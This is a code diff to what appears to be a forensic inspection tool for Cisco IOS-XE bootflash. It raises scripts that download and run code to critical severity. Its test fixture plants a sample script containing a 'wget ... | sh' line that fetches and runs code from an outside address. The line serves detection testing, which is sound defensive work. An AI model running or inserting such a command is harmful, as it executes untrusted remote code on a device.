@@ -5,6 +5,7 @@
 
 use qvet_inspect::appliance::SumCheck;
 
+use super::content::escalate;
 use super::Guest;
 use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};
 
@@ -55,7 +56,8 @@ pub static SCRIPT: Rule = Rule {
     layer: Layer::Persistence,
     doc: "Tcl, Python, shell, Perl or Expect files on bootflash: vendor images carry none; EEM, \
           `tclsh` and Guest Shell can run them. Read what they do. Low inside a hidden directory \
-          IOS-XE creates itself (.installer, .prst_sync …).",
+          IOS-XE creates itself (.installer, .prst_sync …); critical when it downloads and runs \
+          code or opens a shell.",
 };
 /// Directories with code or access.
 pub static CODE_DIRECTORY: Rule = Rule {
@@ -164,14 +166,18 @@ pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
         }
     }
     for s in &b.scripts {
-        let f = g.at(&SCRIPT, s, format!("script {s}"));
-        // In a hidden directory IOS-XE itself creates (.installer …): low.
-        out.push(if g.appliance.vendor_hidden(s) {
-            f.severity(Severity::Low)
-                .evidence("place", "a hidden directory IOS-XE creates itself")
-        } else {
-            f
-        });
+        let mut f = g.at(&SCRIPT, s, format!("script {s}"));
+        // In a hidden directory IOS-XE creates itself (.installer …): low.
+        if g.appliance.vendor_hidden(s) {
+            f = f
+                .severity(Severity::Low)
+                .evidence("place", "a hidden directory IOS-XE creates itself");
+        }
+        // What it runs: downloading and running code is critical anywhere.
+        if let Some(text) = g.tree.read(s.as_bytes(), 1 << 20).content() {
+            f = escalate(f, &String::from_utf8_lossy(text));
+        }
+        out.push(f);
     }
     for (dir, files) in &b.code_dirs {
         let severity = match (dir.as_str(), files) {
@@ -243,6 +249,11 @@ mod tests {
             .file("/csr1000v-universalk9.16.09.01.SPA.bin", 0o644, b"b")
             .file("/.ssh/authorized_keys", 0o600, b"k")
             .file("/tools/x.tcl", 0o644, b"puts 1")
+            .file(
+                "/agent.sh",
+                0o755,
+                b"#!/bin/sh\nwget -qO- http://203.0.113.4/a | sh\n",
+            )
             .file("/csr.lic", 0o644, b"l")
             .mkdir("/tracelogs");
         let found = findings(&f, check);
@@ -252,6 +263,7 @@ mod tests {
             ("iosxe-package-missing", Severity::Medium),
             ("iosxe-unreferenced-image", Severity::Low),
             ("iosxe-script", Severity::Medium),
+            ("iosxe-script", Severity::Critical),
             ("iosxe-code-directory", Severity::High),
             ("iosxe-licence-file", Severity::Info),
             ("iosxe-booted", Severity::Info),
